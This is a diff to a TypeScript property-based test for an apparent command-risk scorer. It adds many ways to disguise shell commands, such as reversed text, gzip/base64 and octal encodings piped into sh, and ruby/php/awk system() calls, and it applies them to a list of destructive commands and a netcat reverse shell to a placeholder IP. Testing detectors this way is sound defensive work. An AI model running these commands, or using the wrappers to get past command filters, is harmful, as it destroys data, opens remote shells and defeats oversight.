@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { gzipSync } from "node:zlib";
 import fc from "fast-check";
 import { assess } from "../../../src/scoring/assess.js";
 import { caseInput } from "./rule-cases.js";
@@ -7,6 +8,7 @@ const DANGEROUS = ["rm -rf /", "chmod -R 777 /", "nc -e /bin/sh 203.0.113.7 4444
 
 const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
 const base64 = (text: string): string => Buffer.from(text).toString("base64");
+const octal = (text: string): string => [...text].map((letter) => `\\${letter.charCodeAt(0).toString(8).padStart(3, "0")}`).join("");
 /** Ways of writing a command so that the shell still runs it. */
 const VARIANTS: ReadonlyArray<(command: string) => string> = [
   (command) => `bash -c ${quoted(command)}`,
@@ -47,6 +49,25 @@ const VARIANTS: ReadonlyArray<(command: string) => string> = [
   (command) => `$(command -v bash) -c ${quoted(command)}`,
   (command) => `hyperfine ${quoted(command)}`,
   (command) => `npx -c ${quoted(command)}`,
+  (command) => `doas ${command}`,
+  (command) => `find . -exec ${command} \\;`,
+  (command) => `parallel ::: ${quoted(command)}`,
+  (command) => `watch -n 1 ${quoted(command)}`,
+  (command) => `ssh host.example ${quoted(command)}`,
+  (command) => `coproc X { ${command}; }`,
+  (command) => `script -qc ${quoted(command)} /dev/null`,
+  (command) => `at now <<< ${quoted(command)}`,
+  (command) => `busybox sh -c ${quoted(command)}`,
+  (command) => command.replaceAll(" ", " \\\n "),
+  (command) => `{${command.split(" ").join(",")}}`,
+  (command) => `echo ${quoted([...command].reverse().join(""))} | rev | sh`,
+  (command) => `echo ${gzipSync(Buffer.from(command)).toString("base64")} | base64 -d | gunzip | sh`,
+  (command) => `printf '${octal(command)}' | sh`,
+  (command) => `echo ${quoted(command)} | tee x.sh; sh x.sh`,
+  (command) => `cat <<'END' > x.sh\n${command}\nEND\nchmod +x x.sh && ./x.sh`,
+  (command) => `ruby -e ${quoted(`system("${command}")`)}`,
+  (command) => `php -r ${quoted(`system("${command}");`)}`,
+  (command) => `awk ${quoted(`BEGIN{system("${command}")}`)}`,
 ];
 
 describe("scoring", () => {
